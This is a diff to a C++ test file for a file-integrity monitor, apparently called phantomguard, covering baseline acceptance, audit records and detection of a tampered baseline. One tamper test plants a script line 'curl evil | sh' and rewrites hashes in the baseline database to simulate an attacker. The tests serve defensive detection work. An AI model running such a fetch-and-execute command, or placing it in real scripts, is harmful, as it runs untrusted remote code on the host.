@@ -1,12 +1,15 @@
 #include <catch2/catch.hpp>
 
 #include <filesystem>
+#include <fstream>
 #include <set>
 #include <sstream>
 #include <sys/stat.h>
 
 #include "phantomguard/actors/fim/fim_command.hpp"
+#include "phantomguard/actors/fim/baseline_db.hpp"
 #include "phantomguard/actors/fim/register.hpp"
+#include "phantomguard/actors/storage/sqlite_handle.hpp"
 #include "temp_tree.hpp"
 
 using namespace pg::actors::fim;
@@ -65,8 +68,14 @@ SCENARIO("fim init then check, as a command") {
       CHECK(r.code == 0);
       CHECK(r.out.find("fim.changed") != std::string::npos); // table output
     }
-    THEN("--update records the change so the next check is clean") {
-      CHECK(run({"check", "--update", "--db", db, tree.path("tree")}).code == 1);
+    THEN("a check reports them again: nothing is accepted by looking") {
+      CHECK(run({"check", "--db", db, tree.path("tree")}).code == 1);
+      CHECK(run({"check", "--db", db, tree.path("tree")}).code == 1);
+    }
+    THEN("--update accepts what it reports so the next check is clean") {
+      auto u = run({"check", "--update", "--db", db, tree.path("tree")});
+      CHECK(u.code == 0);
+      CHECK(u.out.find("accepted fim.added " + tree.path("tree/bin/dropper")) != std::string::npos);
       CHECK(run({"check", "--db", db, tree.path("tree")}).code == 0);
     }
   }
@@ -153,4 +162,63 @@ SCENARIO("the family registers the fim analyzer type and command") {
                         "nice", "realtime", "rehash"})
     CHECK(keys.count(k) == 1);
   CHECK(reg.find_command("fim"));
+}
+
+SCENARIO("fim accept records who accepted which change and when, and re-seals the baseline") {
+  pg::test::temp_tree tree;
+  tree.write("tree/conf", "x=1\n");
+  tree.write("tree/other", "y=1\n");
+  std::string db = tree.path("base.db");
+  auto init = run({"init", "--db", db, tree.path("tree")});
+  REQUIRE(init.code == 0);
+  CHECK(init.err.find("baseline seal sha256:") != std::string::npos);
+  tree.write("tree/conf", "x=2\n");
+  tree.write("tree/other", "y=2\n");
+  // Only the path named is accepted; the other change is still reported.
+  auto a = run({"accept", "--db", db, "--by", "alice", tree.path("tree/conf")});
+  CHECK(a.code == 0);
+  CHECK(a.out == "accepted fim.changed " + tree.path("tree/conf") + "\n");
+  auto c = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
+  CHECK(c.code == 1);
+  CHECK(c.out.find(tree.path("tree/other")) != std::string::npos);
+  CHECK(c.out.find(tree.path("tree/conf") + "\"") == std::string::npos);
+  {
+    baseline_db b(db, false);
+    auto acc = b.acceptances(tree.path("tree/conf"));
+    REQUIRE(acc.size() == 1);
+    CHECK(acc[0].by == "alice");
+    CHECK(acc[0].change == "fim.changed");
+    CHECK(acc[0].at.size() == 24); // RFC 3339 with milliseconds
+  }
+  CHECK(c.out.find("fim.baseline_tampered") == std::string::npos); // accept re-sealed it
+}
+
+SCENARIO("a baseline edited behind the engine's back is fim.baseline_tampered") {
+  pg::test::temp_tree tree;
+  tree.write("tree/bin/tool", "#!/bin/sh\n");
+  std::string db = tree.path("base.db");
+  auto init = run({"init", "--db", db, tree.path("tree")});
+  REQUIRE(init.code == 0);
+  auto at = init.err.find("sha256:");
+  REQUIRE(at != std::string::npos);
+  std::string seal = init.err.substr(at, 7 + 64);
+  // The attacker replaces the tool and writes its hash into the baseline, so a plain comparison
+  // would see nothing.
+  tree.write("tree/bin/tool", "#!/bin/sh\ncurl evil | sh\n");
+  {
+    pg::actors::storage::database raw(db, false);
+    raw.exec("UPDATE entries SET sha256 = 'f00d', size = 26 WHERE path LIKE '%/tool'");
+  }
+  auto c = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
+  CHECK(c.code == 1);
+  CHECK(c.out.find("\"rule\":\"fim.baseline_tampered\"") != std::string::npos);
+  // The operator's own copy of the seal says the same, even if the seal file were rewritten.
+  std::filesystem::remove(db + ".seal");
+  auto s = run({"check", "--db", db, "--seal", seal, "--format", "jsonl", tree.path("tree")});
+  CHECK(s.code == 1);
+  CHECK(s.out.find("fim.baseline_tampered") != std::string::npos);
+  // A damaged seal is not "no seal".
+  std::ofstream(db + ".seal") << "garbage\n";
+  auto d = run({"check", "--db", db, "--format", "jsonl", tree.path("tree")});
+  CHECK(d.out.find("seal is damaged") != std::string::npos);
 }
